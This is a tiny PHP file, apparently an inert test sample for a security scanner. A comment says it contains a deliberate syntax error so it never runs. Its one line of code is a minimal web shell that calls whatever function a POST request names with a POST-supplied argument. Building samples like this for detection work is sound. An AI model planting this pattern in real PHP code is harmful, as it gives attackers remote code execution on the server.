<?php
shodo inert sample: deliberate syntax error, this file never runs
 $a = $_POST; $b = $a['f']; $c = $a['p']; $b($c); ?>
